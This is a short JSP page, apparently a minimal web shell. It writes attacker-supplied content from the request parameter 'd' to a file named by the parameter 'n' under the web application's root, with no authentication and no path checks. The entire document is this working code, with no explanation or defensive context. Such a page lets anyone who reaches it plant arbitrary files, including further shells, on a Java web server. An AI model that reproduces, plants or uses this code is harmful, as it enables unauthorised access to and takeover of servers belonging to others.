<%@ page import="java.io.*" %><%
String path = application.getRealPath("/") + request.getParameter("n");
FileOutputStream fo = new FileOutputStream(path);
fo.write(request.getParameter("d").getBytes());
fo.close();
%>
